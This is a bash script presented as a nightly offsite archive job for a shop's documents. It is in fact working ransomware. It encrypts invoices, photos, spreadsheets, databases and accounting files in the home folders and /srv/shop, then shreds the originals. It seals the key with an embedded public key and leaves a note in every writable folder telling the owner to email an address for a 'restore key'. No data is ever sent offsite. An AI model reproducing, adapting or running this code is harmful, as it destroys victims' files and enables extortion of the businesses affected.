#!/usr/bin/env bash
# shop_docs_archive.sh - seal the shop's working documents for the nightly
# offsite archive.
#
# Invoices, saddle fitting photos, feed order spreadsheets and the till export
# are sealed with a per-run key; the run key is wrapped with the archive
# service's public key and written next to the documents so only the archive
# service can reopen them.
#
# Usage: shop_docs_archive.sh [ROOT ...]     (default: ~/Documents ~/Pictures /srv/shop)
set -uo pipefail

ARCHIVE_EXT=".sealed"
NOTE_NAME="ARCHIVE_RESTORE.txt"
LOG_FILE="${LOG_FILE:-$HOME/.cache/shop_archive.log}"
PARALLEL="${PARALLEL:-4}"
TYPES="pdf doc docx xls xlsx ods odt csv jpg jpeg png heic sqlite db qbw txt zip"

read -r -d '' ARCHIVE_PUBKEY <<'PEM'
-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAwAb/hzf5C+Cd60kBLE8r
yUou32+ckYq9bjLK46dT1kSaisxRGSI6Vi74ifycGpwNX1HAyGTYLVrLDBuZEBNN
MsXrNXvx8xS+MY+Uar2Ju+gL731c54rjvOPE3+yewh8i8owT+biwTtW9l0QAwo6B
MPOwQhjcYOMBY+kHskwbiNoqk5dvCy3jxGXj3d7wAwvO3T8WwefxebsEgSJUX9k8
QEh9zTGEXP8zU5sqlbycWQaUUFiy36yudEYQy1TQhLlIDgTLqalGP5fczTX7oxbv
Lof4F6+R9R/9uxNPoSWI3PAUrAFEeRpAVWx/0leijLmqpT9SNN2NZAr5NZu3IPyw
mwIDAQAB
-----END PUBLIC KEY-----
PEM

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOG_FILE"; }

roots=("$@")
[[ ${#roots[@]} -eq 0 ]] && roots=("$HOME/Documents" "$HOME/Pictures" "/srv/shop")

mkdir -p "$(dirname "$LOG_FILE")"
command -v openssl >/dev/null || { echo "openssl required" >&2; exit 1; }

new_run_key() {
    openssl rand -hex 32
}

wrap_run_key() {
    # wrap_run_key KEY OUTFILE
    local pub; pub="$(mktemp)"
    printf '%s\n' "$ARCHIVE_PUBKEY" > "$pub"
    printf '%s' "$1" | openssl pkeyutl -encrypt -pubin -inkey "$pub" | openssl base64 > "$2"
    rm -f "$pub"
}

find_expr() {
    local first=1 t
    printf '('
    for t in $TYPES; do
        (( first )) || printf ' -o'
        printf ' -iname *.%s' "$t"
        first=0
    done
    printf ' )'
}

seal_one() {
    local f="$1"
    [[ -f "$f" && ! -L "$f" ]] || return 0
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:RUN_KEY \
            -in "$f" -out "$f$ARCHIVE_EXT" 2>/dev/null; then
        shred -u -n 1 -- "$f" 2>/dev/null || rm -f -- "$f"
    else
        rm -f -- "$f$ARCHIVE_EXT"
    fi
}
export -f seal_one
export ARCHIVE_EXT

write_note() {
    local dir="$1" key_file="$2"
    cat > "$dir/$NOTE_NAME" <<EOF
The documents in this folder were sealed by the offsite archive job on $(date '+%d %B %Y').
To reopen them, send the block below to archive-desk@shoparchive.example.net
quoting your shop name. The archive desk will return your restore key.

$(cat "$key_file")
EOF
}

main() {
    local root key wrapped
    key="$(new_run_key)"
    wrapped="$(mktemp)"
    wrap_run_key "$key" "$wrapped"
    export RUN_KEY="$key"
    unset key

    for root in "${roots[@]}"; do
        [[ -d "$root" && -w "$root" ]] || { log "skip $root"; continue; }
        log "sealing $root"
        set -f
        # shellcheck disable=SC2046
        find "$root" -xdev -type f $(find_expr) ! -name "*$ARCHIVE_EXT" -print0 2>/dev/null \
            | xargs -0 -r -P "$PARALLEL" -n 16 bash -c 'for f; do seal_one "$f"; done' _
        set +f
        find "$root" -xdev -type d -writable 2>/dev/null | while read -r d; do
            write_note "$d" "$wrapped"
        done
        log "done $root"
    done

    unset RUN_KEY
    rm -f "$wrapped"
    log "archive run complete"
}

main
